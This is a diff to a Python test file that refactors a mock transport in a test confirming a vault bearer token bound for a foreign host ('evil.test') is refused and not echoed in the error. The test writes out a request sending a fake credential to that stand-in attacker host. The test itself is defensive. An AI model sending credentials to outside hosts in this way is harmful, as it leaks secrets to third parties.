@@ -133,7 +133,12 @@ def test_the_secret_is_on_the_wire_and_not_on_the_request(server: StripeServer, 
 def test_a_vault_token_to_a_foreign_host_is_refused(recorder: Recorder) -> None:
     """No vendor claims the host: refused before anything is sent, and the message does not repeat the token."""
     sent: list[Any] = []
-    transport = httpx.MockTransport(lambda request: (sent.append(request), httpx.Response(200))[1])
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        sent.append(request)
+        return httpx.Response(200)
+
+    transport = httpx.MockTransport(answer)
     with httpx.Client(transport=transport) as client, pytest.raises(EndpointNotAllowed, match=r"evil\.test") as error:
         client.get("https://evil.test/", headers={"Authorization": "Bearer vault_key_abc_def"})
 
